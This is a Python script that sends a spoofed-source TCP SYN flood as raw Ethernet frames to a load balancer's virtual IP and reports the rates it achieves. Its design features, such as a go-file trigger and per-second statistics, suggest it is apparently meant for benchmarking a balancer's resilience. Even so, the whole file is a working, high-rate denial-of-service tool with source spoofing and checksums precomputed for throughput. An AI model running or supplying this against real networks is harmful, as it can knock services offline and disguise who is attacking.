#!/usr/bin/env python3
"""A SYN flood from spoofed sources, as raw Ethernet frames on an AF_PACKET socket.

Every frame is built before the clock starts: an IPv4 TCP SYN (valid IP and TCP checksums, so
the backends' kernels process it like a real one) from a source in --source-net (a /24) with
its own source port, to VIP:port, addressed to the balancer's MAC. --tuples distinct frames
(by default as many as the flood sends: every SYN is a new flow, as from a real spoofing
flood, so none finds the entry of an earlier one) are sent round-robin, at --rate frames per second (0: as fast as the socket takes them) for
--seconds. One send() per frame: the socket owns no queue of ours, and a full device queue
(ENOBUFS) is retried after a short pause and counted.

On exit it prints one JSON line: frames sent, seconds, the achieved rate, the distinct tuples,
and the rate of every whole second (so a stall shows).
"""
import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

from inet import checksum, fold


def mac(text):
    return bytes(int(x, 16) for x in text.split(":"))


def build_frames(dst_mac, src_mac, hosts, dst, dport, count, rng):
    """`count` SYN frames, each with its own (source, source port), checksums filled in.

    Only the source address and port vary, so each checksum is a precomputed per-source sum
    plus the port: about a microsecond a frame, where packing and summing each would take many.
    """
    tcp = struct.pack("!HHIIBBHHH", 0, dport, 0x5EED, 0, 5 << 4, 0x02, 64240, 0, 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, b"\0" * 4, dst)
    template = dst_mac + src_mac + b"\x08\x00" + ip + tcp
    per_source = []
    for src in hosts:
        ip_sum = checksum(ip[:12] + src + dst)
        pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
        # The one's-complement sum of everything but the source port (which is 0 in `tcp`).
        tcp_sum = (~checksum(pseudo + tcp)) & 0xFFFF
        per_source.append((src, ip_sum, tcp_sum))
    ports = 65536 - 1024
    picks = rng.sample(range(len(hosts) * ports), count)
    frames = []
    pack_into = struct.pack_into
    for k in picks:
        src, ip_sum, tcp_sum = per_source[k // ports]
        sport = 1024 + k % ports
        f = bytearray(template)
        f[26:30] = src
        pack_into("!H", f, 24, ip_sum)
        pack_into("!H", f, 34, sport)
        pack_into("!H", f, 50, ~fold(tcp_sum + sport) & 0xFFFF)
        frames.append(bytes(f))
    return frames


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--dst-mac", required=True, help="the balancer's MAC")
    ap.add_argument("--src-mac", required=True, help="this interface's MAC")
    ap.add_argument("--vip", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--source-net", default="203.0.113.0/24", help="spoofed sources (a /24 or smaller)")
    ap.add_argument("--tuples", type=int, default=0,
                    help="distinct (source, port) frames, sent round-robin; 0: rate x seconds (every SYN "
                         "a new tuple), or 2^18 unpaced")
    ap.add_argument("--rate", type=float, default=0, help="frames per second, 0 = unpaced")
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--go-file", help="print 'ready' once the frames are built, then wait (at most 60 s) "
                                      "for this file to exist before starting the clock")
    args = ap.parse_args()

    net = ipaddress.ip_network(args.source_net)
    hosts = [h.packed for h in net.hosts()]
    dst = ipaddress.ip_address(args.vip).packed
    dst_mac, src_mac = mac(args.dst_mac), mac(args.src_mac)
    rng = random.Random(os.getpid())
    tuples = args.tuples or int(args.rate * args.seconds * 1.05) or 1 << 18
    frames = build_frames(dst_mac, src_mac, hosts, dst, args.port, min(tuples, 2_000_000), rng)

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind((args.iface, 0))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    send = sock.send
    n = len(frames)
    sent = retries = 0
    per_second = []
    batch = 256
    if args.go_file:
        print("ready", len(frames), "frames", flush=True)
        deadline = time.monotonic() + 60
        while not os.path.exists(args.go_file):
            if time.monotonic() > deadline:
                sys.exit("no go file within 60 s")
            time.sleep(0.005)
    t0, wall0 = time.monotonic(), time.time()
    end = t0 + args.seconds
    second_end, second_count = t0 + 1, 0
    i = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if now >= second_end:
            per_second.append(second_count)
            second_end += 1
            second_count = 0
        if args.rate > 0:
            ahead = sent - (now - t0) * args.rate
            if ahead > 0:
                time.sleep(min(ahead / args.rate, 0.01))
                continue
        done = 0
        for _ in range(batch):
            try:
                send(frames[i])
            except OSError:  # ENOBUFS: the device queue is full; this frame goes again
                retries += 1
                time.sleep(0.0002)
                continue
            done += 1
            i += 1
            if i == n:
                i = 0
        sent += done
        second_count += done
    elapsed = time.monotonic() - t0
    print(json.dumps({
        "start": wall0, "sent": sent, "seconds": round(elapsed, 3), "rate": round(sent / elapsed),
        "tuples": n, "enobufs": retries, "per_second": per_second,
    }), flush=True)


if __name__ == "__main__":
    sys.exit(main())
